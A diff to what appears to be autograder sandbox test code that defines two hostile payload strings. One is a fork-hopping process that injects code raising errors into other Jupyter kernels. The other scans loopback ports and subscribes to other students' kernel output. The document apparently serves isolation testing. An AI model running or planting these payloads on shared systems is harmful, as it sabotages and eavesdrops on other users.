@@ -68,28 +68,31 @@ def survivor(student: str) -> str:
     """A process that leaves the kernel, changes pid every few milliseconds, and executes code
     in any other kernel whose connection file it can read: every cell of that kernel raises."""
     return f'''
-import os as _os, sys as _sys, time as _time, glob as _glob, json as _json
+import os as _os, sys as _sys, time as _time, glob as _glob
+from jupyter_client import BlockingKernelClient as _Client
 def _survive():
-    mine = {{_os.path.realpath(a) for a in _sys.argv if a.endswith(".json")}}
-    end = _time.time() + 60
+    done = {{_os.path.realpath(a) for a in _sys.argv if a.endswith(".json")}}  # its own kernel
+    end, step = _time.time() + 60, 0
     while _time.time() < end:
         if _os.fork():
             _os._exit(0)  # the parent leaves: the child carries on under a new pid
-        for path in (_glob.glob("/tmp/autograder-*/**/*.json", recursive=True)
-                     + _glob.glob("/ipc/*.json") + _glob.glob(_os.path.expanduser("~/**/*.json"), recursive=True)):
+        step += 1
+        paths = [] if step % 10 else (_glob.glob("/tmp/autograder-*/jobs/*/home/.kernel.json")
+                                      + _glob.glob("/ipc/*.json"))
+        for path in paths:
+            if _os.path.realpath(path) in done:
+                continue
             try:
-                if _os.path.realpath(path) in mine or "shell_port" not in open(path).read():
-                    continue
-                from jupyter_client import BlockingKernelClient
-                kc = BlockingKernelClient(connection_file=path)
+                kc = _Client(connection_file=path)
                 kc.load_connection_file()
                 kc.start_channels()
                 kc.execute("get_ipython().input_transformers_cleanup.append("
                            "lambda lines: ['raise RuntimeError(\\"{PWNED} by {student}\\")\\\\n'])")
+                done.add(_os.path.realpath(path))
                 open(f"/tmp/{PWNED}-{student}-hit", "a").write(path + "\\n")
             except Exception:
                 pass
-        _time.sleep(0.005)
+        _time.sleep(0.002)
 if _os.fork() == 0:
     _os.setsid()
     try:
@@ -100,27 +103,47 @@ if _os.fork() == 0:
 
 
 SPY_START = '''
-import glob as _glob, json as _json, socket as _socket, sys as _sys, threading as _th, time as _time
+import glob as _glob, json as _json, pwd as _pwd, socket as _socket, sys as _sys
+import threading as _th, time as _time
 import zmq as _zmq
 _captured, _open_ports = [], []
+def _listening():
+    """(port, uid) of every listening TCP socket this kernel can see."""
+    out = []
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            rows = open(table).read().splitlines()[1:]
+        except OSError:
+            continue
+        for row in rows:
+            f = row.split()
+            if f[3] == "0A":
+                out.append((int(f[1].rsplit(":", 1)[1], 16), int(f[7])))
+    return out
 def _spy():
     own = _json.load(open(_sys.argv[_sys.argv.index("-f") + 1]))  # this kernel's own channels
     mine = {own[k] for k in own if k.endswith("_port")}
-    for port in range(1, 65536):  # every other service on this machine's loopback
-        with _socket.socket() as s:
-            s.settimeout(0.05)
-            if port not in mine and s.connect_ex(("127.0.0.1", port)) == 0:
-                _open_ports.append(port)
+    kernels = {e.pw_uid for e in _pwd.getpwall() if e.pw_name.startswith("autograder-sb")}
     sub = _zmq.Context.instance().socket(_zmq.SUB)
     sub.setsockopt(_zmq.SUBSCRIBE, b"")
-    for port in _open_ports:
-        sub.connect(f"tcp://127.0.0.1:{port}")
-    for path in _glob.glob("/tmp/**/kernel*-*", recursive=True) + _glob.glob("/ipc/kernel*-*"):
-        if not any(path == f"{own['ip']}-{port}" for port in mine):
-            sub.connect(f"ipc://{path}")  # other kernels' unix sockets
+    seen = set()
     end = _time.time() + 30
-    while _time.time() < end:
-        if sub.poll(100):
+    while _time.time() < end:  # kernels come and go: look again and again
+        for port, uid in set(_listening()) - seen:
+            seen.add((port, uid))
+            if port in mine:
+                continue
+            with _socket.socket() as s:  # any service on the machine's loopback
+                s.settimeout(0.5)
+                if s.connect_ex(("127.0.0.1", port)) == 0:
+                    _open_ports.append(port)
+            if uid in kernels:  # another student's kernel: listen to its output
+                sub.connect(f"tcp://127.0.0.1:{port}")
+        for path in _glob.glob("/tmp/**/kernel*-*", recursive=True) + _glob.glob("/ipc/kernel*-*"):
+            if path not in seen and not any(path == f"{own['ip']}-{port}" for port in mine):
+                seen.add(path)
+                sub.connect(f"ipc://{path}")  # other kernels' unix sockets
+        while sub.poll(200):
             _captured.append(b"".join(sub.recv_multipart()))
 _th.Thread(target=_spy, daemon=True).start()
 '''
